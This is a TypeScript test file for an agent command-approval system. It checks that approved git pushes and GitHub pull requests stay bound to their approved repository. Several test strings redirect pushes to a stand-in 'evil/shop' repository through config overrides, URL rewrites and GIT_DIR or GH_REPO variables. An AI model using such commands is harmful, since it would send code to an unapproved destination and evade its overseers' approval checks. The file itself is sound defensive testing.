/** A yes to a push is for the address it went to: other words, settings and repositories for the same remote's name ask again. */

import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { suggestGrants } from '../../../src/approval/suggestion.ts'
import { openChecker } from '../../../src/call/decide/check-call.ts'
import { openPolicy } from '../../../src/project/open.ts'
import { machineFiles } from '../../../src/system/files.ts'
import { thisMachine } from '../../../src/system/machine.ts'

let root: string
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'cordon-address-')))
  for (const [place, address] of [
    ['.', 'git@github.com:acme/shop.git'],
    ['other', 'https://github.com/evil/shop'],
  ] as const) {
    mkdirSync(join(root, place), { recursive: true })
    git(place, 'init', '-q', '-b', 'main')
    git(place, 'remote', 'add', 'origin', address)
  }
})
afterEach(() => rmSync(root, { recursive: true }))

function git(place: string, ...words: readonly string[]): void {
  execFileSync('git', words, { cwd: join(root, place), env: { PATH: process.env.PATH, HOME: root } })
}

async function decide(command: string, patterns: readonly string[]) {
  const machine = { ...thisMachine(), cwd: root, home: join(root, 'home'), stateDir: join(root, 'state') }
  const object = {
    schema_version: 1,
    permission: { mode: 'contained' },
    sandbox: { os: { command_tools: ['git', 'gh'] } },
    capabilities: { allow: { commands: { patterns } } },
  }
  const opened = await openPolicy({
    machine,
    files: machineFiles,
    root,
    choice: { kind: 'object', object },
    unsigned: 'as-written',
    organisation: [],
  })
  if (!('loaded' in opened)) throw new Error(JSON.stringify(opened))
  const checker = await openChecker(opened.loaded, machine, machineFiles, 'bash', { alone: true, undo: true })
  const { decision, facts } = checker.check({ tool: 'bash', input: { command }, cwd: root })
  const places = { root, home: machine.home, resolve: (path: string) => path, repository: () => null }
  return { decision: decision.decision, offers: suggestGrants(decision, facts, places).map(({ value }) => value) }
}

const PUSH = 'git push github.com/acme/shop:kind'
const REQUEST = 'gh pr create --repo acme/shop:kind'

describe('a yes to a push', () => {
  it.each([
    ['git push origin main', PUSH],
    ['git push', PUSH],
    ['gh pr create -t x -b y', REQUEST],
    ['git -C other push origin main', 'git push github.com/evil/shop:kind'],
  ])('%s is offered as %s', async (command, offer) => {
    expect(await decide(command, [])).toEqual({ decision: 'ask', offers: [offer] })
  })

  const grants = [PUSH, 'git push origin:kind', REQUEST, 'gh pr create:kind']
  it.each([
    'git push origin main',
    'git push -u origin HEAD',
    'git -c user.name=x push origin main',
    'git -C . push',
    'gh pr create -t x -b y',
  ])('covers %s', async (command) => {
    expect(await decide(command, grants)).toMatchObject({ decision: 'allow' })
  })

  it.each([
    'git -c remote.origin.url=https://github.com/evil/shop push origin main',
    'git -c remote.origin.pushurl=https://github.com/evil/shop push origin main',
    'git -c url.https://github.com/evil/.insteadOf=git@github.com:acme/ push origin main',
    'git -c remote.pushDefault=evil push',
    'git -c branch.main.pushRemote=evil push',
    'git --git-dir=other/.git push origin main',
    'git -C other push origin main',
    'cd other && git push origin main',
    'GIT_DIR=other/.git git push origin main',
    'export GIT_DIR=other/.git; git push origin main',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=x git push origin main',
    'GH_REPO=evil/shop gh pr create -t x -b y',
    'export GH_REPO=evil/shop; gh pr create -t x -b y',
    'cd other && gh pr create -t x -b y',
  ])('does not cover %s', async (command) => {
    expect(await decide(command, grants)).toMatchObject({ decision: 'ask' })
  })

  it.each<readonly [change: readonly string[], command: string, offers: readonly string[]]>([
    [
      ['remote', 'set-url', 'origin', 'https://github.com/evil/shop'],
      'git push',
      ['git push github.com/evil/shop:kind'],
    ],
    [
      ['config', 'remote.origin.pushurl', 'https://github.com/evil/shop'],
      'git push origin',
      ['git push github.com/evil/shop:kind'],
    ],
    [['config', '--add', 'remote.origin.url', 'https://github.com/evil/shop'], 'git push origin', []],
    [['config', 'remote.pushDefault', 'evil'], 'git push', []],
    [['config', 'branch.main.pushRemote', 'https://github.com/evil/shop'], 'git push', []],
    [['config', 'url.https://github.com/evil/.insteadOf', 'git@github.com:acme/'], 'git push origin', []],
    [['config', 'include.path', '../more'], 'git push origin', []],
    [
      ['remote', 'set-url', 'origin', 'https://github.com/evil/shop'],
      'gh pr create -t x -b y',
      ['gh pr create --repo evil/shop:kind'],
    ],
    [['remote', 'add', 'upstream', 'https://github.com/evil/shop'], 'gh pr create -t x -b y', []],
  ])('ends with git %s: %s', async (change, command, offers) => {
    expect(await decide(command, [PUSH, REQUEST])).toMatchObject({ decision: 'allow' })
    git('.', ...change)
    expect(await decide(command, [PUSH, REQUEST])).toEqual({ decision: 'ask', offers })
  })
})
